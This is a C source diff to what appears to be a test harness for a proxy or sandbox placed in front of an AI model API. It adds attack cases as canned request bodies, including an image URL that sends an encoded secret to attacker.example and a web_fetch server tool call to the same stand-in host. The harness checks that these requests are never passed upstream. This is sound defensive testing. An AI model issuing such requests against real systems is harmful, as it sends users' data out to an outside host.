@@ -406,6 +406,49 @@ chars(size_t n, char c)
 }
 
 /*
+ * Model calls whose body the rebuild never writes, at the bound turn's
+ * level (low) or the research job's: 1 when hcase is one of them.  Each
+ * carries the real shape of an attack: the upstream would fetch the url,
+ * read the file or run the server tool with the credential, or think at
+ * its default effort, high.
+ */
+static int
+content_attack(const char *turn, const char *name)
+{
+	static const struct {
+		const char	*ca_name;
+		const char	*ca_body;
+	} cases[] = {
+		{ "adaptive", "{\"model\":\"claude-test\",\"max_tokens\":"
+		    "1024,\"messages\":[{\"role\":\"user\",\"content\":"
+		    "\"hi\"}],\"thinking\":{\"type\":\"adaptive\"}}" },
+		{ "url_image", "{\"model\":\"claude-test\",\"max_tokens\":"
+		    "1024,\"messages\":[{\"role\":\"user\",\"content\":[{"
+		    "\"type\":\"image\",\"source\":{\"type\":\"url\","
+		    "\"url\":\"https://attacker.example/leak?d=c2VjcmV0\"}},"
+		    "{\"type\":\"text\",\"text\":\"describe\"}]}]}" },
+		{ "file_source", "{\"model\":\"claude-test\",\"max_tokens\":"
+		    "1024,\"messages\":[{\"role\":\"user\",\"content\":[{"
+		    "\"type\":\"image\",\"source\":{\"type\":\"file\","
+		    "\"file_id\":\"file_011CNha8iCJcU1wXNR6q4V8w\"}}]}]}" },
+		{ "server_tool", "{\"model\":\"claude-test\",\"max_tokens\":"
+		    "1024,\"messages\":[{\"role\":\"user\",\"content\":"
+		    "\"hi\"},{\"role\":\"assistant\",\"content\":[{\"type\":"
+		    "\"server_tool_use\",\"id\":\"srvtoolu_01\",\"name\":"
+		    "\"web_fetch\",\"input\":{\"url\":\"https://attacker."
+		    "example/\"}}]}]}" },
+	};
+	size_t	 i;
+
+	for (i = 0; i < sizeof(cases) / sizeof(cases[0]); i++)
+		if (strcmp(name, cases[i].ca_name) == 0) {
+			model_call(turn, cases[i].ca_body);
+			return 1;
+		}
+	return 0;
+}
+
+/*
  * The attacks.  Those on egress need no turn or the one bound; those on
  * the supervisor need the turn.
  */
@@ -516,6 +559,10 @@ attack(void)
 
 	hcase += 5;	/* "turn_" */
 	turn = wait_turn();
+	if (content_attack(turn, hcase)) {
+		free(turn);
+		return;
+	}
 	/* Egress, within the bound turn. */
 	if (strcmp(hcase, "mcp_tool") == 0)
 		wait_end(call("mcp", "", "alpha", turn, "{\"jsonrpc\":\"2.0\","
@@ -648,6 +695,14 @@ research_flood(const char *t, size_t n)
 static void
 research_attack(void)
 {
+	/* "research_adaptive" at level low, "research_adaptive_none"
+	 * without a level */
+	if (strncmp(hcase, "research_", 9) == 0 &&
+	    (strcmp(hcase + 9, "adaptive") == 0 ||
+	    strcmp(hcase + 9, "adaptive_none") == 0)) {
+		content_attack(NULL, "adaptive");
+		return;
+	}
 	/* a job runs at most 16 tool calls at once, 24 x 16 in all */
 	if (strcmp(hcase, "research_searches") == 0)
 		research_flood("res_search", 24 * 16 + 1);
